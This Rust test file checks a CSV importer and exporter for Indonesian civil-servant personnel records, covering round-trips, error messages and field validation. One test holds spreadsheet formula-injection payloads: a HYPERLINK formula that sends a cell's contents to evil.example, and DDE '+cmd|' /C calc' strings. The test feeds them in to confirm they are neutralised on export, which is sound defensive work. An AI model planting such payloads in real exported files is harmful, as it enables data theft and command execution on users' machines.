//! The record kinds against their contract, docs/formats.md: every kind
//! writes what it reads back, bad values are reported exactly and all at
//! once, and the column tables in the document are the columns in the code.

// Test code: a failed unwrap is a failed test.
#![allow(clippy::unwrap_used, clippy::panic, clippy::indexing_slicing)]

use std::collections::BTreeMap;
use std::fmt::Debug;

use proptest::prelude::*;
use proptest::sample::select;
use talenta_domain::disiplin::JenisHukuman;
use talenta_domain::eligibility::StatusKepegawaian;
use talenta_domain::kompetensi::{Kompetensi, Level, Levels, UMUM};
use talenta_domain::personnel::*;
use talenta_domain::skp::predikat;
use talenta_domain::{
    AsnKind, BidangIlmu, Golongan, GolonganPppk, Jenjang, Nip, Rating, Score, TingkatPendidikan,
};
use talenta_ingest::delimited::Table;
use talenta_ingest::{
    Cell, Column, CsvSink, CsvTable, Kind, RecordKind, Reference, RowError, Target,
};
use talenta_testkit::records;
use time::{Date, Month};

// ---------------------------------------------------------------------------
// Helpers

/// Writes `records` through [`CsvSink`] and reads them back.
fn write_and_read<K: RecordKind>(records: &[K]) -> (String, Vec<Result<K, Vec<RowError>>>) {
    let mut sink = CsvSink::<K, _>::new(Vec::new()).unwrap();
    for record in records {
        sink.write(record).unwrap();
    }
    let bytes = sink.finish().unwrap();
    let text = String::from_utf8(bytes).unwrap();
    let parsed = parse_all::<K>(&text);
    (text, parsed)
}

fn parse_all<K: RecordKind>(text: &str) -> Vec<Result<K, Vec<RowError>>> {
    let mut table = Table::open(text.as_bytes(), K::COLUMNS).unwrap();
    let mut parsed = Vec::new();
    while let Some(record) = table.next_record() {
        parsed.push(K::parse(&record.unwrap()));
    }
    parsed
}

fn assert_round_trip<K: RecordKind + PartialEq + Debug>(records: &[K]) {
    for record in records {
        assert_eq!(record.to_row().len(), K::COLUMNS.len(), "{record:?}");
    }
    let (text, parsed) = write_and_read(records);
    let parsed: Vec<K> = parsed
        .into_iter()
        .map(|r| {
            r.unwrap_or_else(|errors| {
                let shown: Vec<String> = errors.iter().map(ToString::to_string).collect();
                panic!("{}\n{text}", shown.join("\n"))
            })
        })
        .collect();
    assert_eq!(parsed, records, "{text}");
}

/// The errors of every row of `text`, shown as the user sees them.
fn errors<K: RecordKind + Debug>(text: &str) -> Vec<String> {
    parse_all::<K>(text)
        .into_iter()
        .flat_map(|r| match r {
            Ok(record) => panic!("accepted {record:?}"),
            Err(errors) => errors,
        })
        .map(|e| e.to_string())
        .collect()
}

fn one<K: RecordKind + Debug>(text: &str) -> K {
    let mut parsed = parse_all::<K>(text);
    assert_eq!(parsed.len(), 1);
    parsed.remove(0).unwrap()
}

fn date(year: i32, month: u8, day: u8) -> Date {
    Date::from_calendar_date(year, Month::try_from(month).unwrap(), day).unwrap()
}

fn nip(text: &str) -> Nip {
    Nip::parse(text).unwrap()
}

fn all_nine(level: u8) -> Levels {
    nine_kompetensi()
        .into_iter()
        .map(|k| (k, Level::new(level).unwrap()))
        .collect()
}

fn nine_kompetensi() -> Vec<Kompetensi> {
    UMUM.to_vec()
}

// ---------------------------------------------------------------------------
// Strategies

/// Text as people type it: commas, quotes, semicolons, accents and
/// dashes, and what a spreadsheet takes for a formula; no surrounding
/// blanks (cells are trimmed), no line breaks (no column holds two lines).
fn text() -> impl Strategy<Value = String> {
    "[=+@'-]?[A-Za-z0-9 ,;\"'./()&éñüÖ–’=+@-]{1,24}"
        .prop_map(|s| s.trim().to_owned())
        .prop_filter("blank", |s| !s.is_empty())
}

fn opt_text() -> impl Strategy<Value = Option<String>> {
    proptest::option::of(text())
}

fn code() -> impl Strategy<Value = String> {
    "[A-Z][A-Z0-9-]{0,11}"
}

fn any_date() -> impl Strategy<Value = Date> {
    let from = date(1950, 1, 1).to_julian_day();
    let to = date(2040, 12, 31).to_julian_day();
    (from..=to).prop_map(|day| Date::from_julian_day(day).unwrap())
}

fn opt_date() -> impl Strategy<Value = Option<Date>> {
    proptest::option::of(any_date())
}

fn bidang() -> impl Strategy<Value = BidangIlmu> {
    text().prop_map(|s| BidangIlmu::new(&s))
}

fn tingkat() -> impl Strategy<Value = TingkatPendidikan> {
    select(TingkatPendidikan::ALL.to_vec())
}

/// A valid PNS NIP: appointed as CPNS after the 18th birthday.
fn pns_nip() -> impl Strategy<Value = Nip> {
    (
        1960..=1995i32,
        1..=12u8,
        1..=28u8,
        1..=20i32,
        1..=12u8,
        1..=2u8,
        1..=999u16,
    )
        .prop_map(|(year, month, day, after, tmt_month, gender, sequence)| {
            let text = format!(
                "{year:04}{month:02}{day:02}{:04}{tmt_month:02}{gender}{sequence:03}",
                year + 18 + after
            );
            Nip::parse_as(&text, AsnKind::Pns).unwrap()
        })
}

/// A valid NI PPPK with one of the contract codes seen in practice.
fn pppk_nip() -> impl Strategy<Value = Nip> {
    (
        1960..=1995i32,
        1..=12u8,
        1..=28u8,
        2019..=2025i32,
        select(vec![21u8, 24]),
        1..=2u8,
        1..=999u16,
    )
        .prop_map(|(year, month, day, tmt_year, code, gender, sequence)| {
            let text =
                format!("{year:04}{month:02}{day:02}{tmt_year:04}{code:02}{gender}{sequence:03}");
            Nip::parse_as(&text, AsnKind::Pppk).unwrap()
        })
}

/// Either kind; the digits tell them apart.
fn any_nip() -> impl Strategy<Value = Nip> {
    prop_oneof![pns_nip(), pppk_nip()]
}

fn levels() -> impl Strategy<Value = Levels> {
    prop_oneof![
        Just(Levels::new()),
        proptest::collection::vec(1..=5u8, 9).prop_map(|levels| {
            nine_kompetensi()
                .into_iter()
                .zip(levels)
                .map(|(k, l)| (k, Level::new(l).unwrap()))
                .collect()
        }),
    ]
}

fn instansi() -> impl Strategy<Value = Instansi> {
    (code(), text()).prop_map(|(kode, nama)| Instansi { kode, nama })
}

fn opd() -> impl Strategy<Value = Opd> {
    (code(), text(), proptest::option::of(code()))
        .prop_filter("own parent", |(kode, _, induk)| {
            induk.as_ref() != Some(kode)
        })
        .prop_map(|(kode, nama, induk)| Opd { kode, nama, induk })
}

fn jabatan() -> impl Strategy<Value = Jabatan> {
    (
        (code(), text(), code(), select(Jenjang::ALL.to_vec())),
        (
            proptest::option::of(tingkat()),
            proptest::collection::vec(bidang(), 0..3),
            proptest::option::of(select(Golongan::ALL.to_vec())),
        ),
        (
            levels(),
            any::<bool>(),
            1..=u16::MAX,
            proptest::option::of(50..=75u8),
        ),
    )
        .prop_map(
            |(
                (kode, nama, opd, jenjang),
                (min_pendidikan, bidang_ilmu, min_golongan),
                (standar, kunci, kebutuhan, bup),
            )| {
                Jabatan {
                    kode,
                    nama,
                    opd,
                    jenjang,
                    min_pendidikan,
                    bidang_ilmu,
                    min_golongan,
                    standar,
                    kunci,
                    kebutuhan,
                    bup,
                }
            },
        )
}

fn pns_golongan() -> impl Strategy<Value = GolonganAsn> {
    select(Golongan::ALL.to_vec()).prop_map(GolonganAsn::Pns)
}

fn pppk_golongan() -> impl Strategy<Value = GolonganAsn> {
    (1..=17u8).prop_map(|level| GolonganAsn::Pppk(GolonganPppk::new(level).unwrap()))
}

/// An employee whose row agrees with the NIP: birth date, gender, TMT CPNS
/// in the NIP's month, and a golongan of the status's kind.
fn pegawai() -> impl Strategy<Value = Pegawai> {
    let identity = select(StatusKepegawaian::ALL.to_vec()).prop_flat_map(|status| {
        let (nip, golongan) = match status {
            StatusKepegawaian::Pppk => (pppk_nip().boxed(), pppk_golongan().boxed()),
            _ => (pns_nip().boxed(), pns_golongan().boxed()),
        };
        (
            Just(status),
            nip,
            proptest::option::of(golongan),
            proptest::option::of(1..=28u8),
        )
    });
    (
        identity,
        (text(), opt_text(), opt_text(), opt_text()),
        (opt_date(), proptest::option::of(code()), opt_date(), code()),
        (
            proptest::option::of(tingkat()),
            proptest::option::of(bidang()),
            opt_date(),
        ),
        (opt_text(), opt_text(), opt_text(), opt_text()),
    )
        .prop_map(
            |(
                (status, nip, golongan, tmt_cpns_day),
                (nama, gelar_depan, gelar_belakang, tempat_lahir),
                (tmt_golongan, jabatan, tmt_jabatan, opd),
                (pendidikan, bidang_ilmu, tmt_pns),
                (agama, daerah_asal, email, no_hp),
            )| {
                let tmt_cpns = match nip.appointment().year_month() {
                    Some(year_month) => tmt_cpns_day.map(|day| {
                        let (year, month) = year_month.split_once('-').unwrap();
                        date(year.parse().unwrap(), month.parse().unwrap(), day)
                    }),
                    None => None,
                };
                Pegawai {
                    nip,
                    nama,
                    gelar_depan,
                    gelar_belakang,
                    jenis_kelamin: nip.gender(),
                    tempat_lahir,
                    tanggal_lahir: nip.birth_date(),
                    status,
                    golongan,
                    tmt_golongan,
                    jabatan,
                    tmt_jabatan,
                    opd,
                    pendidikan,
                    bidang_ilmu,
                    tmt_cpns,
                    tmt_pns,
                    agama,
                    daerah_asal,
                    email,
                    no_hp,
                }
            },
        )
}

fn riwayat_jabatan() -> impl Strategy<Value = RiwayatJabatan> {
    (
        (any_nip(), any_date(), proptest::option::of(code()), text()),
        (
            proptest::option::of(code()),
            select(Jenjang::ALL.to_vec()),
            opt_text(),
            opt_date(),
        ),
    )
        .prop_map(
            |((nip, tmt, jabatan, nama_jabatan), (opd, jenjang, nomor_sk, tanggal_sk))| {
                RiwayatJabatan {
                    nip,
                    tmt,
                    jabatan,
                    nama_jabatan,
                    opd,
                    jenjang,
                    nomor_sk,
                    tanggal_sk,
                }
            },
        )
}

fn riwayat_golongan() -> impl Strategy<Value = RiwayatGolongan> {
    let held = prop_oneof![(pns_nip(), pns_golongan()), (pppk_nip(), pppk_golongan())];
    (held, any_date(), opt_text(), opt_text(), opt_date()).prop_map(
        |((nip, golongan), tmt, jenis_kp, nomor_sk, tanggal_sk)| RiwayatGolongan {
            nip,
            tmt,
            golongan,
            jenis_kp,
            nomor_sk,
            tanggal_sk,
        },
    )
}

fn riwayat_pendidikan() -> impl Strategy<Value = RiwayatPendidikan> {
    (
        any_nip(),
        tingkat(),
        1900..=2100i32,
        proptest::option::of(bidang()),
        opt_text(),
    )
        .prop_map(
            |(nip, tingkat, tahun_lulus, bidang_ilmu, nama_sekolah)| RiwayatPendidikan {
                nip,
                tingkat,
                tahun_lulus,
                bidang_ilmu,
                nama_sekolah,
            },
        )
}

fn riwayat_diklat() -> impl Strategy<Value = RiwayatDiklat> {
    (
        any_nip(),
        text(),
        any_date(),
        proptest::option::of(0..400i64),
        opt_text(),
        proptest::option::of(any::<u16>()),
        opt_text(),
    )
        .prop_map(
            |(nip, nama, mulai, days, jenis, jam, penyelenggara)| RiwayatDiklat {
                nip,
                nama,
                mulai,
                selesai: days.map(|d| mulai + time::Duration::days(d)),
                jenis,
                jam,
                penyelenggara,
            },
        )
}

fn riwayat_penghargaan() -> impl Strategy<Value = RiwayatPenghargaan> {
    (any_nip(), text(), any_date(), opt_text()).prop_map(|(nip, nama, tanggal, nomor_sk)| {
        RiwayatPenghargaan {
            nip,
            nama,
            tanggal,
            nomor_sk,
        }
    })
}

/// A sanction whose end is either given or what a blank computes, so that
/// it reads back as it was.
fn riwayat_hukdis() -> impl Strategy<Value = RiwayatHukdis> {
    (
        any_nip(),
        select(JenisHukuman::ALL.to_vec()),
        any_date(),
        proptest::option::of(0..800i64),
        opt_text(),
        opt_date(),
        opt_text(),
    )
        .prop_map(
            |(nip, jenis, mulai, days, nomor_sk, tanggal_sk, alasan)| RiwayatHukdis {
                nip,
                jenis,
                mulai,
                akhir: days
                    .map(|d| mulai + time::Duration::days(d))
                    .or_else(|| jenis.akhir(mulai)),
                nomor_sk,
                tanggal_sk,
                alasan,
            },
        )
}

fn skp() -> impl Strategy<Value = Skp> {
    (
        any_nip(),
        2000..=2100i32,
        select(Rating::ALL.to_vec()),
        select(Rating::ALL.to_vec()),
        proptest::option::of((0..=10_000u16).prop_map(|h| Score::from_hundredths(h).unwrap())),
        proptest::option::of(any_nip()),
        opt_text(),
    )
        .prop_map(
            |(
                nip,
                tahun,
                hasil_kerja,
                perilaku_kerja,
                nilai_penguat,
                penilai_nip,
                penilai_nama,
            )| {
                Skp {
                    nip,
                    tahun,
                    hasil_kerja,
                    perilaku_kerja,
                    predikat: predikat(hasil_kerja, perilaku_kerja),
                    nilai_penguat,
                    penilai_nip,
                    penilai_nama,
                }
            },
        )
}

fn asesmen() -> impl Strategy<Value = Asesmen> {
    (
        any_nip(),
        any_date(),
        select(SumberAsesmen::ALL.to_vec()),
        proptest::option::of((0..=10_000u16).prop_map(|h| Score::from_hundredths(h).unwrap())),
        levels(),
    )
        .prop_filter(
            "neither potensi nor levels",
            |(_, _, _, potensi, levels)| potensi.is_some() || !levels.is_empty(),
        )
        .prop_map(|(nip, tanggal, sumber, potensi, kompetensi)| Asesmen {
            nip,
            tanggal,
            sumber,
            potensi,
            kompetensi,
        })
}

// ---------------------------------------------------------------------------
// Round trips

macro_rules! round_trips {
    ($($name:ident: $strategy:expr;)*) => {
        proptest! {
            #![proptest_config(ProptestConfig::with_cases(64))]
            $(
                #[test]
                fn $name(records in proptest::collection::vec($strategy, 0..8)) {
                    assert_round_trip(&records);
                }
            )*
        }
    };
}

round_trips! {
    instansi_round_trips: instansi();
    opd_round_trips: opd();
    jabatan_round_trips: jabatan();
    pegawai_round_trips: pegawai();
    riwayat_jabatan_round_trips: riwayat_jabatan();
    riwayat_golongan_round_trips: riwayat_golongan();
    riwayat_pendidikan_round_trips: riwayat_pendidikan();
    riwayat_diklat_round_trips: riwayat_diklat();
    riwayat_penghargaan_round_trips: riwayat_penghargaan();
    riwayat_hukdis_round_trips: riwayat_hukdis();
    skp_round_trips: skp();
    asesmen_round_trips: asesmen();
}

const SITI: &str = "198503152010012003";
const PPPK: &str = "198209212025211088";

fn siti(golongan: Option<GolonganAsn>) -> Pegawai {
    Pegawai {
        jenis_kelamin: talenta_domain::Gender::P,
        golongan,
        ..records::pegawai(nip(SITI), "Siti Rahmawati", date(1985, 3, 15), "DINKES")
    }
}

/// The edges by hand: every optional value blank, every one filled, and
/// names that need quoting.
#[test]
fn hand_made_records_round_trip() {
    let blank = siti(None);
    let full = Pegawai {
        nama: "Siti \"Ita\" Rahmawati, Ñoño – 李".into(),
        gelar_depan: Some("dr.".into()),
        gelar_belakang: Some("S.Kom., M.T.".into()),
        tempat_lahir: Some("Serang; Banten".into()),
        golongan: Some(GolonganAsn::Pns(Golongan::IVA)),
        tmt_golongan: Some(date(2022, 4, 1)),
        jabatan: Some("DINKES-KADIS".into()),
        tmt_jabatan: Some(date(2024, 1, 2)),
        pendidikan: Some(TingkatPendidikan::S2),
        bidang_ilmu: Some(BidangIlmu::new("Kesehatan Masyarakat")),
        tmt_cpns: Some(date(2010, 1, 1)),
        tmt_pns: Some(date(2011, 1, 1)),
        agama: Some("Islam".into()),
        daerah_asal: Some("Banten".into()),
        email: Some("siti@serangkota.go.id".into()),
        no_hp: Some("+62 812-3456-7890".into()),
        ..blank.clone()
    };
    let pppk = Pegawai {
        nip: Nip::parse_as(PPPK, AsnKind::Pppk).unwrap(),
        jenis_kelamin: talenta_domain::Gender::L,
        tanggal_lahir: date(1982, 9, 21),
        status: StatusKepegawaian::Pppk,
        golongan: Some(GolonganAsn::Pppk(GolonganPppk::new(9).unwrap())),
        ..blank.clone()
    };
    assert_round_trip(&[blank, full, pppk]);

    let jabatan = Jabatan {
        nama: "Kepala Dinas Kesehatan".into(),
        ..records::jabatan("DINKES-KADIS", "DINKES", Jenjang::JptPratama)
    };
    let full = Jabatan {
        standar: all_nine(4),
        kebutuhan: 3,
        bup: Some(60),
        ..records::kepala_dinas()
    };
    assert_round_trip(&[jabatan, full]);

    let hukdis = RiwayatHukdis {
        nip: nip(SITI),
        jenis: JenisHukuman::PemberhentianDenganHormat,
        mulai: date(2026, 1, 1),
        akhir: None,
        nomor_sk: None,
        tanggal_sk: None,
        alasan: None,
    };
    assert_round_trip(&[hukdis]);
}

/// The rows that `CsvSink` writes, quoted where they must be.
#[test]
fn sink_writes_the_header_and_quotes_only_where_needed() {
    let opd = [
        records::opd("DINKES", "Dinas Kesehatan"),
        Opd {
            kode: "DINKES-YANKES".into(),
            nama: "Bidang \"Pelayanan\", Kesehatan".into(),
            induk: Some("DINKES".into()),
        },
    ];
    let (text, _) = write_and_read(&opd);
    assert_eq!(
        text,
        "unorId,unorNama,unorIndukId\nDINKES,Dinas Kesehatan,\nDINKES-YANKES,\"Bidang \"\"Pelayanan\"\", Kesehatan\",DINKES\n"
    );
}

/// Text that a spreadsheet would run as a formula is written with one `'`
/// in front and read back without it; a text that starts with `'` keeps
/// it; a number column is written as it is.
#[test]
fn formulas_are_guarded_in_text_columns_and_come_back_exact() {
    let evil = Pegawai {
        nama: "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"klik\")".into(),
        gelar_depan: Some("-5".into()),
        gelar_belakang: Some("'quoted".into()),
        tempat_lahir: Some("+cmd|' /C calc'!A0".into()),
        agama: Some("@SUM(1+1)*cmd|' /C calc'!A0".into()),
        no_hp: Some("+6281234567890".into()),
        ..siti(None)
    };
    assert_round_trip(std::slice::from_ref(&evil));
    let (text, _) = write_and_read(&[evil]);
    let cells: Vec<String> = csv::ReaderBuilder::new()
        .from_reader(text.as_bytes())
        .records()
        .next()
        .unwrap()
        .unwrap()
        .iter()
        .map(str::to_owned)
        .collect();
    assert_eq!(
        cells[1],
        "'=HYPERLINK(\"http://evil.example/?d=\"&A1,\"klik\")"
    );
    assert_eq!(cells[2], "'-5");
    assert_eq!(cells[3], "''quoted");
    assert_eq!(cells[5], "'+cmd|' /C calc'!A0");
    assert_eq!(cells[17], "'@SUM(1+1)*cmd|' /C calc'!A0");
    assert_eq!(cells[20], "'+6281234567890");
    for cell in &cells {
        assert!(
            !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
            "unguarded cell {cell:?}"
        );
    }

    // A number column is not marked: a cost of -5 stays a number.
    let columns = [Column::required("label"), Column::required("cost").number()];
    let mut table = CsvTable::new(Vec::new(), &columns).unwrap();
    table.write(["-5", "-5"]).unwrap();
    let written = String::from_utf8(table.finish().unwrap()).unwrap();
    assert_eq!(written, "label,cost\n'-5,-5\n");
    let mut read = Table::open(written.as_bytes(), &columns).unwrap();
    let record = read.next_record().unwrap().unwrap();
    assert_eq!(
        (record.get(0).unwrap(), record.get(1).unwrap()),
        ("-5", "-5")
    );
}

/// A hand-made file may mark a text as Excel users do (`'0812…`, a NIP as
/// `'196…`): the importer takes the mark off, as it takes off the one an
/// export writes.
#[test]
fn a_marked_value_in_a_hand_made_file_loses_its_mark() {
    let text = format!(
        "{PEGAWAI_HEADER}\n'{SITI},''Siti,,,P,'Serang,15-03-1985,PNS,,,,,DINKES,,,,,,,,'0812\n"
    );
    let pegawai: Pegawai = one(&text);
    assert_eq!(pegawai.nip.as_str(), SITI);
    assert_eq!(pegawai.nama, "'Siti");
    assert_eq!(pegawai.tempat_lahir.as_deref(), Some("Serang"));
    assert_eq!(pegawai.no_hp.as_deref(), Some("0812"));
    // A number column keeps what it is given: a mark there is not a number.
    let skp = errors::<Skp>(&format!(
        "nipBaru,tahun,hasilKinerja,perilakuKerja\n{SITI},'2024,sesuai_ekspektasi,sesuai_ekspektasi\n"
    ));
    assert_eq!(
        skp,
        ["line 2, column 2 (tahun): value \"'2024\": not a year: expected yyyy from 2000 to 2100"]
    );
}

// ---------------------------------------------------------------------------
// Values read in

const PEGAWAI_HEADER: &str = "nipBaru,nama,gelarDepan,gelarBelakang,jenisKelamin,tempatLahir,tglLahir,statusPegawai,golRuangAkhir,tmtGolAkhir,jabatanId,tmtJabatan,unorId,tkPendidikanTerakhir,bidangIlmu,tmtCpns,tmtPns,agama,daerahAsal,email,noHp";

#[test]
fn pegawai_values_are_read_in_any_accepted_spelling() {
    let text = format!(
        "{PEGAWAI_HEADER}\n{SITI},Siti,,,f,,1985-03-15,pns,4a,1/4/2022,,,DINKES,s-2,kesehatan   masyarakat,01-01-2010,,,,,\n"
    );
    let p: Pegawai = one(&text);
    assert_eq!(p.jenis_kelamin, talenta_domain::Gender::P);
    assert_eq!(p.golongan, Some(GolonganAsn::Pns(Golongan::IVA)));
    assert_eq!(p.tmt_golongan, Some(date(2022, 4, 1)));
    assert_eq!(p.pendidikan, Some(TingkatPendidikan::S2));
    assert_eq!(p.bidang_ilmu.unwrap().as_str(), "kesehatan masyarakat");
}

// ---------------------------------------------------------------------------
// Lengths and characters

/// A pegawai row whose name is `nama` and place of birth `tempat`.
fn pegawai_row(nama: &str, tempat: &str) -> String {
    format!(
        "{PEGAWAI_HEADER}\n{SITI},\"{nama}\",,,P,\"{tempat}\",15-03-1985,PNS,,,,,DINKES,,,,,,,,\n"
    )
}

#[test]
fn values_longer_than_their_column_are_refused_and_shown_cut() {
    let hundred = "a".repeat(100);
    assert_eq!(
        one::<Pegawai>(&pegawai_row(&hundred, "Serang")).nama,
        hundred
    );
    let long = "a".repeat(101);
    assert_eq!(
        errors::<Pegawai>(&pegawai_row(&long, "Serang")),
        [format!(
            "line 2, column 2 (nama): value \"{}…\": more than 100 characters",
            "a".repeat(60)
        )]
    );
    // Characters, not bytes: 100 two-byte letters fit.
    let accented = "é".repeat(100);
    assert_eq!(
        one::<Pegawai>(&pegawai_row(&accented, "Serang")).nama,
        accented
    );
    // A 50 MB name makes a short message, not a 50 MB one.
    let huge = "x".repeat(50 << 20);
    let shown = errors::<Pegawai>(&pegawai_row(&huge, "Serang"));
    assert_eq!(shown.len(), 1);
    assert!(shown[0].len() < 200, "{}", shown[0].len());
    assert!(shown[0].ends_with("…\": more than 100 characters"));
}

#[test]
fn control_characters_and_line_breaks_are_refused() {
    for (value, code, at) in [
        ("Si\u{0}ti", "0000", 3),
        ("Siti\u{7f}", "007F", 5),
        ("Si\nti", "000A", 3),
        ("Si\rti", "000D", 3),
        ("Si\tti", "0009", 3),
        ("\u{1b}[31mSiti", "001B", 1),
    ] {
        assert_eq!(
            errors::<Pegawai>(&pegawai_row("Siti", value)),
            [format!(
                "line 2, column 6 (tempatLahir): value {value:?}: holds the control character U+{code} at character {at}"
            )],
            "{value:?}"
        );
    }
}

#[test]
fn a_huge_header_makes_a_short_error() {
    // One 50 MB header name, and a header of 100,000 names.
    let huge = format!("{},nama\n", "n".repeat(50 << 20));
    let names: Vec<String> = (0..100_000).map(|i| format!("k{i}")).collect();
    let many = format!("{}\n", names.join(","));
    for header in [&huge, &many] {
        let error = Table::open(header.as_bytes(), Pegawai::COLUMNS)
            .unwrap_err()
            .to_string();
        assert!(error.len() < 2_000, "{}", error.len());
        assert!(
            error.starts_with("line 1: the header lacks the column(s) nipBaru"),
            "{error}"
        );
    }
    let error = Table::open(many.as_bytes(), Pegawai::COLUMNS)
        .unwrap_err()
        .to_string();
    assert!(error.ends_with(", k29, and 99970 more)"), "{error}");
    let error = Table::open(huge.as_bytes(), Pegawai::COLUMNS)
        .unwrap_err()
        .to_string();
    assert!(
        error.ends_with(&format!("(found: {}…, nama)", "n".repeat(60))),
        "{error}"
    );
    // Twice the same huge name.
    let twice = format!("{0},{0}\n", "n".repeat(50 << 20));
    let error = Table::open(twice.as_bytes(), Pegawai::COLUMNS)
        .unwrap_err()
        .to_string();
    assert!(error.len() < 200, "{}", error.len());
}

#[test]
fn pegawai_must_agree_with_the_nip() {
    let text = format!(
        "{PEGAWAI_HEADER}\n{SITI},Siti,,,L,,15-03-1986,PNS,IX,,,,DINKES,,,01-02-2010,,,,,\n"
    );
    assert_eq!(
        errors::<Pegawai>(&text),
        [
            "line 2, column 5 (jenisKelamin): value \"L\": does not match the NIP's gender P",
            "line 2, column 7 (tglLahir): value \"15-03-1986\": does not match the NIP's birth date 1985-03-15",
            "line 2, column 9 (golRuangAkhir): value \"IX\": a PNS or CPNS has a golongan/ruang I/a to IV/e, not a PPPK golongan",
            "line 2, column 16 (tmtCpns): value \"01-02-2010\": not in the NIP's TMT CPNS month 2010-01",
        ]
    );
}

#[test]
fn pppk_status_reads_an_ni_pppk() {
    // The NI PPPK's digits 13-14 ("21") are no month: read as a PNS NIP it
    // is invalid, and a golongan/ruang does not fit a PPPK.
    let row = |status: &str, golongan: &str| {
        format!(
            "{PEGAWAI_HEADER}\n{PPPK},Budi,,,L,,21-09-1982,{status},{golongan},,,,DINKES,,,,,,,,\n"
        )
    };
    let p: Pegawai = one(&row("PPPK", "IX"));
    assert_eq!(p.nip.kind(), AsnKind::Pppk);
    assert_eq!(
        errors::<Pegawai>(&row("PNS", "III/a")),
        [
            "line 2, column 1 (nipBaru): value \"198209212025211088\": invalid NIP: TMT CPNS month (digits 13-14) \"21\" is not a month 01-12"
        ]
    );
    assert_eq!(
        errors::<Pegawai>(&row("PPPK", "III/a")),
        [
            "line 2, column 9 (golRuangAkhir): value \"III/a\": a PPPK has a PPPK golongan I to XVII, not a golongan/ruang"
        ]
    );
}

#[test]
fn every_bad_value_of_a_row_is_reported() {
    let text = format!(
        "{PEGAWAI_HEADER}\n1985031520100120,,,,X,,31-02-1985,honorer,V/a,2022-13-01,,tomorrow,,SMA+,,,,,,,\n"
    );
    assert_eq!(
        errors::<Pegawai>(&text),
        [
            "line 2, column 1 (nipBaru): value \"1985031520100120\": invalid NIP: wrong length: a NIP has 18 digits, found 16",
            "line 2, column 2 (nama): value \"\": missing value",
            "line 2, column 5 (jenisKelamin): value \"X\": \"X\" is not a jenis kelamin (expected L or P, also M or F)",
            "line 2, column 7 (tglLahir): value \"31-02-1985\": no such date",
            "line 2, column 8 (statusPegawai): value \"honorer\": \"honorer\" is not a status kepegawaian (expected PNS, CPNS or PPPK)",
            "line 2, column 9 (golRuangAkhir): value \"V/a\": \"V/a\" is not a golongan (expected I/a to IV/e for a PNS, or I to XVII for a PPPK)",
            "line 2, column 10 (tmtGolAkhir): value \"2022-13-01\": no such date",
            "line 2, column 12 (tmtJabatan): value \"tomorrow\": not a date: expected dd-mm-yyyy or yyyy-mm-dd",
            "line 2, column 13 (unorId): value \"\": missing value",
            "line 2, column 14 (tkPendidikanTerakhir): value \"SMA+\": \"SMA+\" is not a tingkat pendidikan (expected SD, SLTP, SLTA, D1, D2, D3, D4, S1, S2, S3 or a BKN code)",
        ]
    );
}

#[test]
fn a_unit_is_not_its_own_parent() {
    assert_eq!(
        errors::<Opd>("unorId,unorNama,unorIndukId\nDINKES,Dinas Kesehatan,DINKES\n"),
        [
            "line 2, column 3 (unorIndukId): value \"DINKES\": a unit cannot be its own parent (unorId)"
        ]
    );
}

const JABATAN_HEADER: &str = "jabatanId,jabatanNama,unorId,jenjang,tkPendidikanMin,bidangIlmu,golRuangMin,integritas,kerjaSama,komunikasi,orientasiPadaHasil,pelayananPublik,pengembanganDiri,mengelolaPerubahan,pengambilanKeputusan,perekatBangsa,jabatanKunci,kebutuhan";

#[test]
fn jabatan_defaults_and_levels() {
    let j: Jabatan = one(&format!(
        "{JABATAN_HEADER}\nKASI,Kepala Seksi,DINKES,Pengawas,,,,,,,,,,,,,,\n"
    ));
    assert_eq!(
        (j.jenjang, j.kunci, j.kebutuhan, j.standar.len(), j.bup),
        (Jenjang::Pengawas, false, 1, 0, None)
    );
    // Columns may come in any order and optional ones may be missing.
    let j: Jabatan = one(
        "PEREKATBANGSA,jenjang,integritas,kerjaSama,komunikasi,orientasiPadaHasil,pelayananPublik,pengembanganDiri,mengelolaPerubahan,pengambilanKeputusan,unorId,jabatanNama,jabatanId\n\
         5,jpt_pratama,1,2,3,4,5,1,2,3,DINKES,Kadis,KADIS\n",
    );
    let levels: Vec<u8> = nine_kompetensi()
        .iter()
        .map(|k| j.standar.get(k).map_or(0, |l| l.get()))
        .collect();
    assert_eq!(levels, [1, 2, 3, 4, 5, 1, 2, 3, 5]);
    assert_eq!(
        errors::<Jabatan>(&format!(
            "{JABATAN_HEADER}\nKASI,Kepala Seksi,DINKES,kepala,S4,,III/f,4,4,,4,6,4,4,4,4,mungkin,0\n"
        )),
        [
            "line 2, column 4 (jenjang): value \"kepala\": \"kepala\" is not a jenjang jabatan (expected one of: jpt_utama, jpt_madya, jpt_pratama, administrator, pengawas, pelaksana, ahli_utama, ahli_madya, ahli_muda, ahli_pertama, penyelia, mahir, terampil, pemula)",
            "line 2, column 5 (tkPendidikanMin): value \"S4\": \"S4\" is not a tingkat pendidikan (expected SD, SLTP, SLTA, D1, D2, D3, D4, S1, S2, S3 or a BKN code)",
            "line 2, column 7 (golRuangMin): value \"III/f\": \"III/f\" is not a golongan/ruang (expected I/a to IV/e, or a BKN code 11 to 45)",
            "line 2, column 10 (komunikasi): value \"\": missing value: give all nine competency levels or none",
            "line 2, column 12 (pelayananPublik): value \"6\": expected a competency level from 1 to 5",
            "line 2, column 17 (jabatanKunci): value \"mungkin\": expected ya or tidak (or y/n, true/false, 1/0)",
            "line 2, column 18 (kebutuhan): value \"0\": expected a whole number from 1 to 65535",
        ]
    );
}

/// A position's own BUP (PP 11/2017 Pasal 240): whole years, 50 to 75;
/// blank or a file without the column leaves it to the rule set.
#[test]
fn jabatan_bup_is_whole_years() {
    let header = format!("{JABATAN_HEADER},bup");
    let j: Jabatan = one(&format!(
        "{header}\nGURU1,Guru Kelas,SDN1,ahli_pertama,,,,,,,,,,,,,,,60\n"
    ));
    assert_eq!(j.bup, Some(60));
    let j: Jabatan = one(&format!(
        "{header}\nGURU1,Guru Kelas,SDN1,ahli_pertama,,,,,,,,,,,,,,,\n"
    ));
    assert_eq!(j.bup, None);
    assert_eq!(
        errors::<Jabatan>(&format!(
            "{header}\nA,Guru,SDN1,ahli_pertama,,,,,,,,,,,,,,,6\nB,Guru,SDN1,ahli_pertama,,,,,,,,,,,,,,,60 tahun\n"
        )),
        [
            "line 2, column 19 (bup): value \"6\": expected a whole number from 50 to 75",
            "line 3, column 19 (bup): value \"60 tahun\": expected a whole number from 50 to 75",
        ]
    );
}

